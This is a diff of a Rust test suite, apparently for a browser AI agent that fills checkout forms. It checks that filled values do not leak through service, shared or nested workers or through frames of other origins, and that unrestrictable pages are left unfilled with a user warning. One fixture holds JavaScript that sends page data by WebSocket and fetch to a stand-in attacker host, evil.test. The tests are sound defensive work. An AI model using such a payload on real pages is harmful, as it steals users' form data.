@@ -1,8 +1,8 @@
-//! Workers without a frame: no rule of the browser controls their sockets, so none of them may exist when a page gets
-//! values.
+//! Workers of a site without a frame. No rule of the browser controls their sockets, so none of them may exist when a
+//! page gets values.
 
+use crate::egress::{arrive, until_quiet, wait_for};
 use crate::stage::{FORM, REQUEST, Stage};
-use crate::way_out::{arrive, quiet, wait_for};
 
 /// The site's own workers: a service worker, shared workers of a script and of a blob, a worker in a worker. Each sends
 /// its messages and the broadcasts.
@@ -76,17 +76,17 @@ fn no_worker_of_the_site_sends_the_values_of_its_page() {
     // Earlier documents and workers exist when the task starts.
     stage.task();
     stage.agent_until(None, "Deliver to");
-    let before = quiet(&stage);
+    let before = until_quiet(&stage);
     let reply = stage.agent(Some(REQUEST));
     assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
     wait_for(&mut stage, "'sent' in document.body.dataset");
     assert_eq!(stage.browser().values()["street"], stage.value("street"));
-    assert_eq!(quiet(&stage), before, "workers of before, and those that are made after the fill");
+    assert_eq!(until_quiet(&stage), before, "a worker sent something after the fill");
     // They also exist in another tab of the site, which opens later.
     stage.browser().tab(&url);
     stage.browser().evaluate("document.forms[0].elements.street.value = 'of a later tab'");
     stage.browser().evaluate("start().then(give, give)");
-    assert_eq!(quiet(&stage), before);
+    assert_eq!(until_quiet(&stage), before);
     stage.no_value_got_out();
 }
 
@@ -100,7 +100,7 @@ const FRAME: &str = r#"<!doctype html><script>
   });</script>"#;
 
 /// Sends to that frame, and to a shared worker of a `data:` address, which has an opaque origin.
-const HANDS_OVER: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe><script>
+const SENDS_TO_FRAME: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe><script>
   const code = `onconnect = (e) => { e.ports[0].onmessage = (m) => {
     new WebSocket('wss://evil.test:PORT/data-socket?' + m.data);
     fetch('https://evil.test:PORT/data-fetch?' + m.data, { mode: 'no-cors' }); }; }`;
@@ -115,13 +115,13 @@ const HANDS_OVER: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame
 #[test]
 fn no_worker_of_another_origin_sends_the_values_of_a_page() {
     let mut stage = Stage::new(42);
-    stage.site.put("shop.test/checkout", &format!("{FORM}{HANDS_OVER}"));
+    stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS_TO_FRAME}"));
     stage.site.put("bank.test/frame", FRAME);
     stage.site.put("bank.test/service.js", SERVICE);
     stage.site.put("bank.test/shared.js", SHARED);
     stage.serve(true);
     stage.browse();
-    // The setting of a person who lets sites store data in frames.
+    // The setting of a user who lets sites store data in frames.
     stage.browser().at_question("storeInFrames", &serde_json::json!({}));
     let url = stage.site.url("shop.test/checkout");
     stage.browser().open(&url);
@@ -132,16 +132,16 @@ fn no_worker_of_another_origin_sends_the_values_of_a_page() {
 
     stage.task();
     stage.agent_until(None, "Deliver to");
-    let before = quiet(&stage);
+    let before = until_quiet(&stage);
     let reply = stage.agent(Some(REQUEST));
     assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
     wait_for(&mut stage, "'sent' in document.body.dataset");
-    assert_eq!(quiet(&stage), before, "its frame, and workers that it had");
+    assert_eq!(until_quiet(&stage), before, "the frame or one of its workers sent something");
     stage.no_value_got_out();
 }
 
 #[test]
-fn a_page_that_cannot_be_restricted_is_not_filled_and_the_user_is_told() {
+fn a_page_that_cannot_be_restricted_is_not_filled_and_the_user_is_warned() {
     let mut stage = Stage::new(43);
     stage.site.put("shop.test/checkout", &format!("{FORM}{OWN}"));
     stage.site.put("shop.test/service.js", SERVICE);
@@ -156,11 +156,11 @@ fn a_page_that_cannot_be_restricted_is_not_filled_and_the_user_is_told() {
     stage.agent_until(None, "Deliver to");
     let reply = stage.agent(Some(REQUEST));
     assert!(reply.contains("egress_blocked"), "{reply}");
-    let told = stage.asked();
-    assert!(told.contains("that was there before the task began"), "{told}");
-    assert!(told.contains("open pages of these sites are loaded again"), "the question says so: {told}");
+    let warning = stage.asked();
+    assert!(warning.contains("that was there before the task began"), "{warning}");
+    assert!(warning.contains("open pages of these sites are loaded again"), "{warning}");
     assert_eq!(stage.browser().values()["street"], "");
-    stage.browser().at_question("alone", &serde_json::json!({}));
+    stage.browser().at_question("closeOthers", &serde_json::json!({}));
     let reply = stage.agent_until(Some(REQUEST), "GRANT");
     assert!(reply.contains("GRANT.address"), "{reply}");
     stage.no_value_got_out();
